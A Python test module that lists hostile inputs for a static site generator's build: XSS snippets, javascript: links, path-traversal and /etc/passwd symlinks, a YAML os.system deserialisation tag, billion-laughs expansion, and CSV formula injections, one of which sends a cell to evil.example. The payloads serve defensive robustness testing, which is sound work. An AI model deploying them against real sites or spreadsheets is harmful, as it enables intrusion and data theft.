"""Targeted attacks: always run, independent of the seed. Each is (name, fixture, setup, run),
where run is None for a normal build or an OutAttack for a build that must be refused (exit 2)."""

import os
import shutil
from collections import namedtuple

import mutations as M
from sites import REPO

Attack = namedtuple("Attack", "name fixture setup refuse")
# refuse: None, or a function(site, themes_dir) -> argv (after the binary) of a run that must exit 2
# without deleting or changing anything.

NUM_VALUES = [("1e30", "1e30"), (".inf", "inf"), ("-.nan", "nan"), ("-1", "neg"), ("99999999999999999999", "huge")]
NUM_FIELDS = [
    ("base", "mentors/ivanova.md", "mentees"),
    ("base", "cases/keis.md", "mentees"),
    ("base", "cases/keis.md", "year"),
    ("demo", "mentors/sokolov.md", "experience_years"),
    ("demo", "partners.yml", "mentors"),
    ("demo", "pages/roditelyam.md", "weight"),
    ("demo", "indicators.yml", "2020"),
    ("demo", "indicators.yml", "numerator"),
    ("demo", "indicators.yml", "denominator"),
    ("demo", "indicators/actual.csv", "numerator"),
    ("bank", "schools/alpha/content/indicators.yml", "numerator"),
    ("bank", "indicators.yml", "2023"),
]

BUILD = ["build", "--content", "content", "--out", "public", "--today", "2025-06-01"]


def _set(rel, key, raw, nth=0):
    return lambda s: s.set_field(rel, key, raw, nth)


def _csv_cell(rel, col, value, row=1):
    def f(s):
        if not s.p(rel).exists():
            s.write(rel, "indicator,year,numerator,denominator\nmentees_10_19,2023,40,470\n")
        rows = s.read(rel).split("\n")
        cells = rows[row].split(",")
        cells[col] = '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\r\n') else value
        rows[row] = ",".join(cells)
        s.write(rel, "\n".join(rows))
    return f


def _body(rel, md):
    return lambda s: s.append_body(rel, md)


def _news(body="Текст.", extra="", slug="2024-10-01-ataka"):
    return lambda s: s.add_news(slug, body, extra)


def _bytes(rel, fn):
    return lambda s: s.write(rel, fn(s.p(rel).read_bytes()))


def _seq(*fns):
    def f(s):
        for fn in fns:
            fn(s)
    return f


def _symlink(rel, target, ref=None):
    def f(s):
        t = target.replace("SITE/", "../" * (rel.count("/") + 1))
        s.symlink(rel, t)
        if ref:
            ref(s)
    return f


def _case_with(extra, body="Описание.", slug="ataka"):
    return lambda s: s.add_case(slug, extra, body)


def _document(file_line):
    def f(s):
        entry = ('- title: "Документ"\n  level: school\n  type: приказ\n  number: "1"\n'
                 f'  date: 2024-01-01\n  {file_line}\n')
        old = s.read("documents.yml") + "\n" if s.p("documents.yml").exists() else ""
        s.write("documents.yml", old + entry)
    return f


def _replace(rel, path_fn):
    def f(s):
        p = s.p(rel)
        if p.is_dir() and not p.is_symlink():
            shutil.rmtree(p)
        elif p.exists() or p.is_symlink():
            p.unlink()
        path_fn(p)
    return f


def _chmod000(s, rel):
    os.chmod(s.p(rel), 0)
    if os.access(s.p(rel), os.R_OK):
        s.note("running as root: chmod 000 does not stop reading, the case only checks robustness")


def _local_theme(s):
    d = s.root / "themes" / "default" / "templates"
    d.mkdir(parents=True)
    shutil.copy(REPO / "themes/default/templates/404.mustache", d / "404.mustache")


def _evil_theme(s):
    M._evil_theme(s)


def all_attacks():
    A = []

    def add(name, fixture, setup, refuse=None):
        A.append(Attack(name, fixture, setup, refuse))

    for fx in ("base", "demo", "bank"):
        add(f"clean-{fx}", fx, lambda s: None)

    # --- hostile numbers -------------------------------------------------------------------
    for fx, rel, key in NUM_FIELDS:
        for raw, slug in NUM_VALUES:
            name = f"num-{fx}-{os.path.basename(rel).split('.')[0]}-{key}-{slug}"
            if rel.endswith(".csv"):
                add(name, fx, _csv_cell(rel, 2, raw))
            else:
                add(name, fx, _set(rel, key, raw))

    # --- hostile YAML values and structure -----------------------------------------------
    case = "cases/keis.md"
    add("yaml-long-title", "base", _set(case, "title", '"' + "Длинный заголовок " * 60000 + '"'))
    add("yaml-long-key", "base", lambda s: s.write("site.yml", "k" * 200000 + ": 1\n" + s.read("site.yml")))
    for raw, slug in [("[]", "list"), ("{}", "map"), ("~", "null")]:
        add(f"yaml-title-{slug}", "base", _set(case, "title", raw))
        add(f"yaml-date-{slug}", "base", _set("news/2024-09-01-start.md", "date", raw))
        add(f"yaml-consent-{slug}", "base", _set("mentors/ivanova.md", "consent", raw))
        add(f"yaml-site-organization-{slug}", "base", lambda s, raw=raw: s.replace_block("site.yml", "organization", raw))
    add("yaml-site-list", "base", lambda s: s.write("site.yml", "- a\n- b\n"))
    add("yaml-site-scalar", "base", lambda s: s.write("site.yml", "just a string\n"))
    add("yaml-documents-map", "demo", lambda s: s.write("documents.yml", "title: x\n"))
    add("yaml-roadmap-scalar", "demo", lambda s: s.write("roadmap.yml", "42\n"))
    add("yaml-alias", "base", lambda s: s.write("site.yml", s.read("site.yml").replace(
        'title: "Наставничество"', 'title: &t "Наставничество"') + "description: *t\n"))
    add("yaml-alias-undefined", "base", _set("site.yml", "title", "*nowhere"))
    add("yaml-alias-merge", "base", lambda s: s.write("site.yml", "defaults: &d { title: \"x\", kind: school }\n"
                                                      + s.read("site.yml") + "extra:\n  <<: *d\n"))
    add("yaml-alias-recursive", "base", _set(case, "results", "&r [*r]"))
    add("yaml-alias-in-front-matter", "base", lambda s: s.write(case, s.read(case).replace(
        'form: "учитель – учитель"', 'form: &f "учитель – учитель"') .replace("year: 2024", "year: 2024\ntags: [*f, *f]")))
    add("yaml-duplicate-key", "base", lambda s: s.write(case, s.read(case).replace("---\n", "---\ntitle: \"A\"\n", 1)))
    add("yaml-tag-binary", "base", _set(case, "title", "!!binary AAAA"))
    add("yaml-tag-python", "base", _set(case, "title", "!!python/object/apply:os.system ['id']"))
    add("yaml-tab-indent", "base", lambda s: s.write("site.yml", s.read("site.yml").replace("  name:", "\tname:")))
    add("yaml-document-separator", "base", lambda s: s.write("site.yml", s.read("site.yml") + "---\ntitle: second\n"))
    add("yaml-dates-impossible", "base", _set("news/2024-09-01-start.md", "date", "2024-02-30"))
    add("yaml-dates-russian-impossible", "base", _set("news/2024-09-01-start.md", "date", "31.02.2024"))
    add("yaml-period-reversed", "base", _set("programs/programma.md", "period", "{ from: 2025-09-01, to: 2024-05-31 }"))
    add("yaml-year-zero", "base", _set(case, "year", "0"))
    for depth in (10000,):
        add(f"yaml-deep-seq-{depth}-site", "base", _set("site.yml", "title", "[" * depth + "x" + "]" * depth))
        add(f"yaml-deep-map-{depth}-front-matter", "base", _set(case, "title", "{a: " * depth + "x" + "}" * depth))
        add(f"yaml-deep-seq-{depth}-indicators", "demo", _set("indicators.yml", "territory", "[" * depth + "]" * depth))
        add(f"yaml-deep-seq-{depth}-bank-school", "bank",
            _set("schools/alpha/content/cases/robototehnika.md", "tags", "[" * depth + "]" * depth))
    add("yaml-deep-block-1000", "base", lambda s: s.write("site.yml", s.read("site.yml") + "deep:\n" + "\n".join(
        " " * (2 * k + 2) + "- " + ("" if k < 999 else "1") for k in range(1000)) + "\n"))
    add("yaml-billion-laughs-site", "base", lambda s: s.write("site.yml", M.BILLION_LAUGHS + s.read("site.yml")))
    add("yaml-billion-laughs-front-matter", "base",
        lambda s: s.write(case, s.read(case).replace("---\n", "---\n" + M.BILLION_LAUGHS, 1)))
    add("yaml-billion-laughs-bank-school", "bank", lambda s: s.write(
        "schools/alpha/content/site.yml", M.BILLION_LAUGHS + s.read("schools/alpha/content/site.yml")))

    # --- Markdown: active content in bodies and in front matter ----------------------------
    news = "news/2024-09-01-start.md"
    html_cases = [("script", "<script>alert(1)</script>"), ("img-onerror", "<img src=x onerror=alert(1)>"),
                  ("iframe", '<iframe src="https://evil.example/"></iframe>'),
                  ("svg-onload", "<svg onload=alert(1)></svg>"), ("object", '<object data="x.swf"></object>'),
                  ("embed", '<embed src="x.swf">'), ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
                  ("style-javascript", '<style>*{background:url("javascript:alert(1)")}</style>'),
                  ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
                  ("form-action", '<form action="javascript:alert(1)"><button>x</button></form>'),
                  ("base-href", '<base href="javascript:alert(1)//">'),
                  ("split-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
                  ("inline-onclick", 'Текст <a href="#" onclick="alert(1)">ссылка</a> текст')]
    for slug, snippet in html_cases:
        add(f"md-html-{slug}-news", "base", _body(news, snippet))
    add("md-html-script-case", "base", _body(case, "<script>alert(1)</script>"))
    add("md-html-script-page", "demo", _body("pages/roditelyam.md", "<script>alert(1)</script>"))
    add("md-html-script-index", "demo", _body("index.md", "<img src=x onerror=alert(1)>"))
    add("md-html-script-bank-practice", "bank",
        _body("schools/alpha/content/cases/robototehnika.md", "<script>alert(1)</script>"))
    link_cases = [("javascript", "[x](javascript:alert(1))"), ("javascript-case", "[x](JaVaScRiPt:alert(1))"),
                  ("javascript-entity", "[x](&#106;avascript:alert(1))"),
                  ("javascript-colon-entity", "[x](javascript&colon;alert(1))"),
                  ("javascript-tab", "[x](java\tscript:alert(1))"),
                  ("javascript-percent", "[x](%6Aavascript:alert(1))"),
                  ("javascript-angle", "[x](<javascript:alert(1)>)"),
                  ("data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
                  ("vbscript", "[x](vbscript:msgbox(1))"), ("autolink-javascript", "<javascript:alert(1)>"),
                  ("reference-javascript", "[x][r]\n\n[r]: javascript:alert(1)"),
                  ("image-javascript", "![x](javascript:alert(1))"),
                  ("image-data-svg", "![x](data:image/svg+xml,<svg onload=alert(1)>)"),
                  ("title-breakout", '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")'),
                  ("file-url", "[x](file:///etc/passwd)")]
    for slug, snippet in link_cases:
        add(f"md-link-{slug}", "base", _body(news, "См. " + snippet))
    add("md-link-javascript-bank", "bank", _body("schools/alpha/content/cases/robototehnika.md", "[x](javascript:alert(1))"))
    add("md-entity-escaped-news", "base", _body(news, "&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;"))
    add("md-entity-numeric-news", "base", _body(news, "&#60;script&#62;alert(1)&#60;/script&#62;"))
    add("md-code-script-news", "base", _body(news, "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```"))
    for field in ("title", "summary"):
        add(f"fm-news-{field}-script", "base", _set(news, field, '"<script>alert(1)</script>"'))
        add(f"fm-news-{field}-img-onerror", "base", _set(news, field, '"<img src=x onerror=alert(1)>"'))
        add(f"fm-news-{field}-entity", "base", _set(news, field, '"&lt;script&gt;alert(1)&lt;/script&gt;"'))
    add("fm-news-tags-script", "demo", _set("news/2024-09-02-start-programmy.md", "tags", '["<script>alert(1)</script>"]'))
    add("fm-case-title-script", "base", _set(case, "title", '"</title><script>alert(1)</script>"'))
    add("fm-case-title-quote-breakout", "base", _set(case, "title", "'\"><img src=x onerror=alert(1)>'"))
    add("fm-mentor-name-script", "base", _set("mentors/ivanova.md", "name", '"<script>alert(1)</script> Иванова"'))
    add("fm-practice-title-script-bank", "bank",
        _set("schools/alpha/content/cases/robototehnika.md", "title", '"<script>alert(1)</script>"'))
    add("fm-practice-audience-onerror-bank", "bank",
        _set("schools/alpha/content/cases/robototehnika.md", "audience", '"<img src=x onerror=alert(1)>"'))
    add("fm-cover-alt-breakout", "demo", _set("cases/robototehnika.md", "cover_alt", "'\" onerror=\"alert(1)'"))

    # --- broken files: front matter, sizes, bytes, encodings -------------------------------
    add("md-unclosed-front-matter", "base", lambda s: s.write(news, s.read(news).replace("\n---\n", "\n", 1)))
    add("md-only-dashes", "base", lambda s: s.write(news, "---\n"))
    add("md-empty", "base", lambda s: s.write(news, ""))
    add("md-front-matter-not-map", "base", lambda s: s.write(news, "---\n- a\n---\nТекст\n"))
    add("md-huge-line-body", "base", _body(news, "а" * 5_000_000))
    add("md-huge-line-front-matter", "base", _set(news, "summary", '"' + "б" * 5_000_000 + '"'))
    add("md-huge-file-lines", "base", _body(news, "строка\n" * 500_000))
    add("fm-case-tag-very-long", "demo", _set("cases/inzhenernyy-start.md", "tags", '"' + "Очень длинная строка " * 6000 + '"'))
    add("fm-case-tag-long-slug", "base", _set(case, "tags", '["' + "тег" * 100 + '"]'))
    add("md-deep-quote", "base", _body(news, ">" * 50000 + " x"))
    add("md-deep-brackets", "base", _body(news, "[" * 50000 + "x" + "]" * 50000))
    add("md-deep-list", "base", _body(news, "\n".join("  " * k + "- x" for k in range(3000))))
    add("md-many-emphasis", "base", _body(news, "*a **a " * 20000))
    add("md-many-footnotes", "base", _body(news, "".join(f"[^{k}]" for k in range(3000)) + "\n\n" +
                                          "\n".join(f"[^{k}]: x" for k in range(3000))))
    add("md-nul-body", "base", _bytes(news, lambda d: d + b"\x00\x00text\x00\n"))
    add("md-nul-front-matter", "base", _bytes(news, lambda d: d.replace(b"title:", b"ti\x00tle:", 1)))
    add("md-invalid-utf8-body", "base", _bytes(news, lambda d: d + b"\xff\xfe\xc3\x28\n"))
    add("md-invalid-utf8-front-matter", "base", _bytes(news, lambda d: d.replace(b"date:", b"\xffdate:", 1)))
    add("md-truncated-utf8", "base", _bytes(news, lambda d: d.rstrip(b"\n") + "ж".encode()[:1]))
    add("md-utf16le-bom", "base", _bytes(news, lambda d: d.decode().encode("utf-16")))
    add("md-utf16be-bom", "base", _bytes(news, lambda d: b"\xfe\xff" + d.decode().encode("utf-16-be")))
    add("md-utf16le-no-bom", "base", _bytes(news, lambda d: d.decode().encode("utf-16-le")))
    add("md-utf32", "base", _bytes(news, lambda d: d.decode().encode("utf-32")))
    add("md-cp1251", "base", _bytes(news, lambda d: d.decode().encode("cp1251")))
    add("md-koi8r", "base", _bytes(news, lambda d: d.decode().encode("koi8-r")))
    add("md-crlf", "base", _bytes(news, lambda d: d.replace(b"\n", b"\r\n")))
    add("md-cr-only", "base", _bytes(news, lambda d: d.replace(b"\n", b"\r")))
    add("md-utf8-bom-crlf", "base", _bytes(news, lambda d: b"\xef\xbb\xbf" + d.replace(b"\n", b"\r\n")))
    add("md-line-separator", "base", _bytes(news, lambda d: d.replace(b"\n", "\u2028".encode())))
    add("yml-cp1251-site", "base", _bytes("site.yml", lambda d: d.decode().encode("cp1251")))
    add("yml-utf16-site", "base", _bytes("site.yml", lambda d: d.decode().encode("utf-16")))
    add("yml-nul-site", "base", _bytes("site.yml", lambda d: d.replace(b"title", b"ti\x00tle", 1)))
    add("yml-invalid-utf8-documents", "demo", _bytes("documents.yml", lambda d: d.replace(b"level", b"\xc0\xafle", 1)))
    add("yml-utf8-bom-site", "base", _bytes("site.yml", lambda d: b"\xef\xbb\xbf" + d))
    add("yml-crlf-roadmap", "demo", _bytes("roadmap.yml", lambda d: d.replace(b"\n", b"\r\n")))
    add("csv-cp1251", "demo", _bytes("indicators/actual.csv", lambda d: d + "показатель,2024,1,2\n".encode("cp1251")))
    add("csv-nul", "demo", _bytes("indicators/actual.csv", lambda d: d + b"mentees_10_19,2024,\x00,1\n"))
    add("csv-unbalanced-quote", "demo", _bytes("indicators/actual.csv", lambda d: d + b'"mentees_10_19,2024,1,2\n'))
    add("csv-duplicate-header-column", "base", lambda s: s.write(
        "indicators/actual.csv", "indicator,year,numerator,denominator,extra,extra\nmentees_10_19,2023,40,470,x,y\n"))
    add("csv-duplicate-header-indicator", "demo", lambda s: s.write(
        "indicators/actual.csv", "indicator,indicator,year,numerator,denominator\nmentees_10_19,x,2023,40,470\n"))
    add("csv-huge-cell", "demo", _bytes("indicators/actual.csv", lambda d: d + b"x" * 3_000_000 + b",2024,1,2\n"))

    # --- the file system --------------------------------------------------------------------
    cover = lambda target: _case_with(f"cover: {target}\ncover_alt: \"Картинка\"\n")
    add("fs-symlink-files-passwd", "base", _symlink("files/passwd.pdf", "/etc/passwd", _document("file: files/passwd.pdf")))
    add("fs-symlink-files-passwd-unreferenced", "base", _symlink("files/passwd.pdf", "/etc/passwd"))
    add("fs-symlink-images-passwd", "base", _symlink("images/passwd.png", "/etc/passwd", cover("images/passwd.png")))
    add("fs-symlink-images-passwd-unreferenced", "base", _symlink("images/passwd.png", "/etc/passwd"))
    add("fs-symlink-news-passwd", "base", _symlink("news/2024-10-01-passwd.md", "/etc/passwd"))
    add("fs-symlink-images-outside", "base", _symlink("images/leak.png", "SITE/outside-secret.png",
                                                      cover("images/leak.png")))
    add("fs-symlink-files-outside", "base", _symlink("files/leak.pdf", "SITE/outside-secret.pdf",
                                                     _document("file: files/leak.pdf")))
    add("fs-symlink-news-outside", "base", _symlink("news/2024-10-01-outside.md", "SITE/outside-news.md"))
    add("fs-symlink-news-outside-absolute", "base",
        lambda s: s.symlink("news/2024-10-01-outside.md", str(s.root / "outside-news.md")))
    add("fs-symlink-bank-school-outside", "bank", _symlink("schools/alpha/content/images/leak.png",
                                                           "SITE/outside-secret.png"))
    add("fs-symlink-images-dir-etc", "base", _symlink("images/etc", "/etc"))
    add("fs-symlink-files-dir-outside", "base", _symlink("files/outside", "SITE/."))
    add("fs-symlink-images-dev-zero", "base", _symlink("images/zero.png", "/dev/zero", cover("images/zero.png")))
    add("fs-symlink-news-proc-environ", "base", _symlink("news/2024-10-01-env.md", "/proc/self/environ"))
    add("fs-symlink-dangling", "base", _symlink("images/gone.png", "/nonexistent/x.png", cover("images/gone.png")))
    add("fs-symlink-loop-images", "base", _symlink("images/loop", "."))
    add("fs-symlink-loop-news-parent", "base", _symlink("news/loop", ".."))
    add("fs-symlink-loop-pair", "base", _seq(_symlink("files/a", "b"), _symlink("files/b", "a")))
    add("fs-symlink-news-is-content", "base", _replace("news", lambda p: os.symlink(".", p)))
    add("fs-symlink-self-md", "base", _symlink("news/self.md", "self.md"))
    add("fs-fifo-news", "base", lambda s: os.mkfifo(s.p("news/2024-10-01-pipe.md")))
    add("fs-fifo-image", "base", _seq(lambda s: os.mkfifo(s.p("images/pipe.png")), cover("images/pipe.png")))
    add("fs-newline-name-news", "base", lambda s: s.p(news).rename(s.p("news/2024-09-01-st\nart.md")))
    add("fs-newline-name-image", "base", _seq(lambda s: shutil.copy(s.p("images/photo.png"), s.p("images/a\nb.png")),
                                              cover('"images/a\\nb.png"')))
    add("fs-control-chars-name", "base", lambda s: s.p(news).rename(s.p("news/2024-09-01-\x1b[31mred\x07.md")))
    add("fs-long-name", "base", lambda s: s.p(news).rename(s.p("news/2024-09-01-" + "д" * 120 + ".md")))
    add("fs-leading-dash-name", "base", lambda s: s.p(news).rename(s.p("news/--help.md")))
    add("fs-chmod000-news", "base", lambda s: _chmod000(s, news))
    add("fs-chmod000-dir", "base", lambda s: _chmod000(s, "news"))
    add("fs-dir-named-md", "base", lambda s: s.p("cases/folder.md").mkdir())
    add("fs-site-yml-dir", "base", _replace("site.yml", lambda p: p.mkdir()))
    add("fs-site-yml-missing", "base", _replace("site.yml", lambda p: None))
    add("fs-site-yml-fifo", "base", _replace("site.yml", lambda p: os.mkfifo(p)))
    add("fs-site-yml-passwd", "base", _replace("site.yml", lambda p: os.symlink("/etc/passwd", p)))
    add("fs-site-yml-dev-zero", "base", _replace("site.yml", lambda p: os.symlink("/dev/zero", p)))
    add("fs-site-yml-empty", "base", _replace("site.yml", lambda p: p.write_bytes(b"")))
    add("fs-bank-school-site-yml-dir", "bank", _replace("schools/alpha/content/site.yml", lambda p: p.mkdir()))
    add("fs-content-is-file", "base", lambda s: (shutil.rmtree(s.content), s.content.write_text("x")))
    add("fs-content-empty", "base", lambda s: (shutil.rmtree(s.content), s.content.mkdir()))
    add("fs-content-symlink-loop", "base", lambda s: (shutil.rmtree(s.content), os.symlink("content", s.content)))

    # --- site.yml values and references ------------------------------------------------------
    add("site-theme-dotdot", "base", _seq(_evil_theme, _set("site.yml", "theme", '"../elsewhere"')))
    add("site-theme-absolute", "base", _seq(_evil_theme, lambda s: s.set_field("site.yml", "theme",
                                                                                 '"' + str(s.root / "elsewhere") + '"')))
    add("site-theme-etc", "base", _set("site.yml", "theme", '"../../../../../../../../etc"'))
    add("site-theme-empty", "base", _set("site.yml", "theme", '""'))
    add("site-theme-bank-school", "bank", _seq(_evil_theme, _set("schools/alpha/content/site.yml", "theme",
                                                                 '"../../../../../elsewhere"')))
    for slug, raw in [("javascript", '"javascript:alert(1)"'), ("javascript-spaces", '"  JavaScript:alert(1)"'),
                      ("data", '"data:text/html,<script>alert(1)</script>"'),
                      ("breakout", "'https://x.example/\"><script>alert(1)</script>'"),
                      ("vbscript", '"vbscript:msgbox(1)"')]:
        add(f"site-organization-url-{slug}", "demo", _set("site.yml", "url", raw))
        add(f"site-partner-url-{slug}", "demo", _set("partners.yml", "url", raw))
        add(f"site-document-url-{slug}", "demo", _set("documents.yml", "url", raw))
    add("site-organization-url-base", "base", lambda s: s.replace_block(
        "site.yml", "organization", '{name: "Школа", kind: school, url: "javascript:alert(1)"}'))
    add("site-organization-url-bank-school", "bank", _set("schools/alpha/content/site.yml", "municipality",
                                                          '"г. Киров"\n  url: "javascript:alert(1)"'))
    add("site-base-url-javascript", "demo", _set("site.yml", "base_url", '"javascript:alert(1)//"'))
    add("site-base-url-breakout", "demo", _set("site.yml", "base_url", "'https://x.example/\"><script>alert(1)</script>/'"))
    add("site-base-url-file", "demo", _set("site.yml", "base_url", '"file:///etc/"'))
    add("site-curator-email-breakout", "demo", _set("site.yml", "email", "'a@b.ru\"><script>alert(1)</script>'"))
    add("site-curator-email-javascript", "demo", _set("site.yml", "email", '"javascript:alert(1)"'))
    add("site-curator-phone-javascript", "demo", _set("site.yml", "phone", '"javascript:alert(1)"'))
    add("site-title-breakout", "demo", _set("site.yml", "title", '"</title><script>alert(1)</script>"'))
    add("site-organization-name-onerror", "demo", _set("site.yml", "short_name", "'<img src=x onerror=alert(1)>'"))
    add("site-description-script", "demo", _set("site.yml", "description", '"\\"><script>alert(1)</script>"'))
    add("ref-document-file-traversal", "base", _document("file: files/../../outside-secret.pdf"))
    add("ref-document-file-absolute", "base", _document("file: /etc/passwd"))
    add("ref-document-file-dotdot", "base", _document("file: ../outside-secret.pdf"))
    add("ref-case-cover-traversal", "base", cover("images/../../outside-secret.png"))
    add("ref-case-cover-absolute", "base", cover("/etc/passwd"))
    add("ref-case-cover-url-javascript", "base", cover('"javascript:alert(1)"'))
    add("ref-mentor-photo-traversal", "base", _seq(_set("mentors/ivanova.md", "photo", "images/../../outside-secret.png"),
                                                   _set("mentors/ivanova.md", "photo_alt", '"Фото"')))
    add("ref-md-image-traversal", "base", _body(news, "![x](images/../../outside-secret.png)"))
    add("ref-md-image-absolute", "base", _body(news, "![x](/etc/passwd)"))
    add("ref-md-link-traversal", "base", _body(news, "[x](files/../../outside-secret.pdf)"))
    add("ref-md-link-dotdot", "base", _body(news, "[x](../outside-secret.txt)"))
    add("ref-case-mentor-traversal", "base", _set(case, "mentor", "mentors/../../outside-news"))
    add("ref-case-program-traversal", "base", _set(case, "program", "../../outside-news"))
    add("ref-bank-practice-cover-traversal", "bank", _set("schools/alpha/content/cases/robototehnika.md", "cover",
                                                          "images/../../../../../outside-secret.png"))

    # --- SVG with script ----------------------------------------------------------------
    svg = lambda s: s.write("images/evil.svg", M.SVG_SCRIPT)
    add("svg-script-cover", "base", _seq(svg, cover("images/evil.svg")))
    add("svg-script-markdown-image", "base", _seq(svg, _body(news, "![Схема](images/evil.svg)")))
    add("svg-script-mentor-photo", "base", _seq(svg, _set("mentors/ivanova.md", "photo", "images/evil.svg"),
                                                _set("mentors/ivanova.md", "photo_alt", '"Фото"')))
    add("svg-script-unreferenced", "base", svg)
    add("svg-script-bank-practice", "bank", _seq(lambda s: s.write("schools/alpha/content/images/evil.svg", M.SVG_SCRIPT),
                                                 _set("schools/alpha/content/cases/robototehnika.md", "cover",
                                                      "images/evil.svg")))
    add("html-file-in-files", "base", _seq(lambda s: s.write("files/evil.html", "<script>alert(1)</script>"),
                                           _document("file: files/evil.html")))

    # --- CSV formula injection into the bank's indicators-rollup.csv ----------------------------
    school_csv = "schools/alpha/content/indicators/actual.csv"
    formulas = [("hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")'), ("plus", "+1+cmd|' /C calc'!A0"),
                ("minus", "-2+3+cmd|' /C calc'!A0"), ("at", "@SUM(1+1)"), ("tab", "\t=1+1"), ("cr", "\r=1+1")]
    for slug, value in formulas:
        add(f"csv-formula-{slug}-indicator", "bank", _csv_cell(school_csv, 0, value))
        add(f"csv-formula-{slug}-municipality", "bank",
            _set("schools/alpha/content/site.yml", "municipality", '"' + value.replace('"', '\\"')
                 .replace("\t", "\\t").replace("\r", "\\r") + '"'))
    add("csv-formula-numerator", "bank", _csv_cell(school_csv, 2, "=1+1"))
    add("csv-formula-organization", "bank", _set("schools/alpha/content/site.yml", "short_name", '"=HYPERLINK(\\"http://evil.example\\")"'))
    add("csv-formula-territory", "bank", _set("indicators.yml", "territory", '"@SUM(1)"'))
    add("csv-formula-custom-indicator-title", "bank", lambda s: (
        s.write("indicators.yml", s.read("indicators.yml") + '  - id: custom_x\n    title: "=HYPERLINK(\\"http://evil.example\\")"\n'
                "    targets: { 2024: 10 }\n"),
        s.write("schools/alpha/content/indicators.yml", s.read("schools/alpha/content/indicators.yml") +
                '  - id: custom_x\n    title: "=HYPERLINK(\\"http://evil.example\\")"\n'
                "    actual:\n      2024: { numerator: 1, denominator: 2 }\n")))

    # --- the bank's sources --------------------------------------------------------------
    for slug, raw in [("escape", '["../../../*/content"]'), ("etc", '["/etc"]'), ("star-star", '["**"]'),
                      ("self", '["."]'), ("duplicate", '["schools/*/content", "schools/*/content"]'),
                      ("no-site-yml", '["schools/*"]'), ("scalar", '"schools/*/content"'), ("empty", "[]"),
                      ("map", "{a: b}"), ("many-stars", '["' + "*/" * 30 + '*"]')]:
        add(f"bank-sources-{slug}", "bank", _set("site.yml", "sources", raw))
    add("bank-school-is-bank", "bank", _symlink("schools/zeta/content", "../.."))
    add("bank-school-nested-bank", "bank", lambda s: s.write("schools/alpha/content/site.yml",
                                                             s.read("schools/alpha/content/site.yml") +
                                                             'kind: bank\nsources: ["../../*/content"]\n'))
    add("bank-school-symlink-loop", "bank", _symlink("schools/loop", "."))

    # --- runs that must be refused (exit 2) without touching anything ------------------------
    def out(*args):
        return lambda s, themes: list(args)

    add("out-content", "base", None, out("build", "--content", "content", "--out", "content"))
    add("out-content-slash", "base", None, out("build", "--content", "content", "--out", "content/"))
    add("out-content-dot", "base", None, out("build", "--content", "content", "--out", "./content/."))
    add("out-content-absolute", "base", None, lambda s, t: ["build", "--content", "content", "--out", str(s.content)])
    add("out-dot", "base", None, out("build", "--content", "content", "--out", "."))
    add("out-dotdot", "base", None, out("build", "--content", "content", "--out", ".."))
    add("out-site-yml", "base", None, out("build", "--content", "content", "--out", "content/site.yml"))
    add("out-content-images", "base", None, out("build", "--content", "content", "--out", "content/images"))
    add("out-bank-schools", "bank", None, out("build", "--content", "content", "--out", "content/schools"))
    add("out-theme-local", "base", _local_theme, out("build", "--content", "content", "--out", "themes/default"))
    add("out-theme-env", "base", None,
        lambda s, themes: ["build", "--content", "content", "--out", os.path.join(themes, "default")])
    add("out-symlink-to-content", "base", lambda s: os.symlink("content", s.root / "public"),
        out("build", "--content", "content", "--out", "public"))
    add("report-content", "bank", None,
        out("build", "--content", "content", "--out", "public", "--report", "content"))
    add("report-dot", "bank", None, out("build", "--content", "content", "--out", "public", "--report", "."))
    add("zip-site-yml", "base", None,
        out("build", "--content", "content", "--out", "public", "--zip", "content/site.yml"))
    add("zip-content", "base", None, out("build", "--content", "content", "--out", "public", "--zip", "content"))
    return A


_BY_NAME = {}


def by_name():
    if not _BY_NAME:
        _BY_NAME.update((a.name, a) for a in all_attacks())
    return _BY_NAME
